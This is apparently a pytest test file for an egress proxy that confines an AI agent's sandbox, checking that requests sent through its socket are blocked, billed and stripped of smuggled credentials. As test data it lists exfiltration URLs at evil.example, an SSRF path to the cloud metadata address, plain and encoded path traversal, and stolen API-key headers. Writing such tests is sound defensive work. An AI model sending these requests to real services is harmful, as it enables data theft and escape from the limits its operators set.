"""Hostile code speaks to the egress' socket itself. What comes back is judged, and what went upstream is looked up."""

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from apps.claude.engine import Engine
from apps.claude.scripted.server import ScriptedModel
from apps.claude.spec import Event, Outcome, ToolUse
from apps.claude.taskspec import File
from tests.claude.conftest import SECRET, SONNET, eventually, requests
from tests.claude.tasks import bash, do, task

CLIENT = r"""
use IO::Socket::UNIX;
my ($method, $path, $file, @headers) = @ARGV;
local $/; open(my $in, '<', $file); my $body = <$in>;
my $socket = IO::Socket::UNIX->new(Peer => '/run/egress/api.sock') or die "no socket";
print $socket "$method $path HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n",
  (map { "$_\r\n" } @headers), "Content-Length: ", length($body), "\r\n\r\n", $body;
print <$socket>;
"""
WORD = "hostile-egress"


def body(**changes: Any) -> dict[str, Any]:
    """A request that would be let through, with something changed; None takes a key away."""
    plain = {
        "model": SONNET,
        "max_tokens": 16,
        "messages": [{"role": "user", "content": [{"type": "text", "text": WORD}]}],
    }
    return {name: value for name, value in {**plain, **changes}.items() if value is not None}


def content(*blocks: dict[str, Any]) -> dict[str, Any]:
    return body(messages=[{"role": "user", "content": list(blocks)}])


@dataclass(frozen=True)
class Attack:
    """What is sent, and the status that it has to come to."""

    name: str
    sent: object
    status: int = 403
    path: str = "/v1/messages"
    method: str = "POST"
    headers: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.name


IMAGE = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}}
DOCUMENT = {"type": "document", "source": {"type": "url", "url": "https://evil.example/?secret"}}
SEARCH = {"type": "web_search_20250305", "name": "web_search"}
ATTACKS = [
    Attack("a model that was not granted", body(model="claude-opus-5-5")),
    Attack("no model", body(model=None)),
    Attack("a web search", body(tools=[SEARCH])),
    Attack("a web fetch", body(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}])),
    Attack("code execution", body(tools=[{"type": "code_execution_20250825", "name": "code_execution"}])),
    Attack("MCP servers", body(mcp_servers=[{"type": "url", "url": "https://evil.example", "name": "x"}])),
    Attack("a container", body(container={"skills": [{"type": "anthropic", "skill_id": "pptx"}]})),
    Attack("a dearer tier", body(service_tier="priority")),
    Attack("a dearer speed", body(speed="fast")),
    Attack("a key that nobody knows", body(future_feature=True)),
    Attack("an image that the upstream would fetch", content(IMAGE)),
    Attack("a document that the upstream would fetch", content(DOCUMENT)),
    Attack("a file of the account", content({"type": "document", "source": {"type": "file", "file_id": "file_1"}})),
    Attack(
        "such an image inside a tool's result", content({"type": "tool_result", "tool_use_id": "x", "content": [IMAGE]})
    ),
    Attack(
        "such an image inside a document",
        content({"type": "document", "source": {"type": "content", "content": [IMAGE]}}),
    ),
    Attack(
        "a server tool that is added on the way",
        content({"type": "tool_addition", "tool": {"type": "tool_definition", "definition": SEARCH}}),
    ),
    Attack("a container upload", content({"type": "container_upload", "file_id": "file_1"})),
    Attack("such an image in the system prompt", body(system=[IMAGE])),
    Attack("an answer of no length", body(max_tokens=0)),
    Attack("an answer of negative length", body(max_tokens=-1)),
    Attack("a length that is no number", body(max_tokens="many")),
    Attack("messages that are no list", body(messages="hi")),
    Attack("tools that are no list", body(tools={"type": "web_search_20250305"})),
    Attack("a count for another model", body(model="claude-opus-5-5"), path="/v1/messages/count_tokens"),
    Attack("something that is no object", [1, 2], 413),
    Attack("the list of models", {}, 404, "/v1/models", "GET"),
    Attack("batches", body(), 404, "/v1/messages/batches"),
    Attack("files", {}, 404, "/v1/files"),
    Attack("a path out of messages", body(), 404, "/v1/messages/../files"),
    Attack("an encoded path out", body(), 404, "/v1/messages%2f..%2ffiles"),
    Attack("another host", body(), 404, "http://169.254.169.254/latest/meta-data"),
    Attack("the account's usage", {}, 404, "/v1/organizations/usage_report/messages", "GET"),
    Attack("another method", body(), 404, method="PUT"),
    Attack("a hand-written call", body(), 200, headers=("x-api-key: sk-ant-stolen", "authorization: Bearer stolen")),
    Attack("dearer betas", body(), 200, headers=("anthropic-beta: fast-mode-2026-01-01,context-1m-2025-08-07,good-1",)),
    Attack("a huge answer", body(max_tokens=10**9), 200),
    Attack("another's identity", body(metadata={"user_id": "somebody-else"}), 200),
]


@pytest.fixture(scope="module")
def told(engine: Engine) -> tuple[Outcome, dict[str, str]]:
    """What each attack was answered, and how the task that made them ended."""
    files = [File(name="client.pl", content=CLIENT.encode())]
    files += [
        File(name=f"{number}.json", content=json.dumps(attack.sent).encode()) for number, attack in enumerate(ATTACKS)
    ]
    calls = []
    for number, attack in enumerate(ATTACKS):
        headers = " ".join(f"'{header}'" for header in attack.headers)
        calls.append(bash(f"perl client.pl {attack.method} '{attack.path}' {number}.json {headers} | head -c 2000"))
    done = do(engine, task(*calls, tools=("Bash",), files=tuple(files), cap_microusd=400_000))
    assert done.outcome.status == "completed", done.outcome
    return done.outcome, {attack.name: done.result_of(number).content for number, attack in enumerate(ATTACKS)}


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_the_egress_answers(told: tuple[Outcome, dict[str, str]], attack: Attack) -> None:
    answer = told[1][attack.name]
    assert answer.startswith("HTTP/1.1 "), answer
    assert int(answer.split()[1]) == attack.status, answer


def test_only_what_was_let_through_went_upstream_with_the_services_own_credential(
    told: tuple[Outcome, dict[str, str]], model: ScriptedModel
) -> None:
    outcome, _ = told
    let_through = [attack for attack in ATTACKS if attack.status == 200]
    by_hand = [
        entry
        for entry in model.journal.entries(WORD)
        if str(entry["body"]["messages"][0]["content"]) == str(body()["messages"][0]["content"])  # type: ignore[index]
    ]
    assert len(by_hand) == len(let_through)
    for entry in by_hand:
        headers: dict[str, str] = entry["headers"]  # type: ignore[assignment]
        assert headers["x-api-key"] == SECRET
        assert "authorization" not in headers
        assert "fast-mode" not in headers.get("anthropic-beta", "")
        assert "context-1m" not in headers.get("anthropic-beta", "")
        assert entry["body"]["max_tokens"] <= 40_000  # type: ignore[index]
    assert len(outcome.calls) == len(ATTACKS) + 1 + len(let_through), "what code asks by hand is billed like the CLI's"
    assert outcome.cost_microusd <= 400_000


def test_a_second_cli_is_fenced_and_billed_like_the_first(engine: Engine, model: ScriptedModel, marker: str) -> None:
    second = "/opt/claude/claude -p --output-format json --dangerously-skip-permissions"
    done = do(
        engine,
        task(
            bash(f"{second} --model claude-opus-5-5 '{marker}-opus' </dev/null"),
            bash(f"{second} --model {SONNET} '[[say: from the second]] {marker}-sonnet' </dev/null"),
            tools=("Bash",),
        ),
    )
    assert "was not granted" in done.result_of(0).content
    assert "from the second" in done.result_of(1).content
    assert not [sent for sent in requests(model, f"{marker}-opus") if sent["model"] != SONNET]
    assert {call.model for call in done.outcome.calls} == {SONNET}
    assert len(done.outcome.calls) >= 4


def test_the_socket_is_dead_once_its_task_is_over(engine: Engine) -> None:
    spec = task(bash("true"), tools=("Bash",))
    lanes: set[Path] = set()

    def look(event: Event) -> None:
        if isinstance(event, ToolUse):
            lanes.add(engine._runs[spec.job_id]._lane.directory)  # type: ignore[union-attr]

    do(engine, spec, look)
    (lane,) = lanes
    eventually(lambda: not lane.exists() and not (engine._runtime_dir / "tasks" / lane.name).exists())
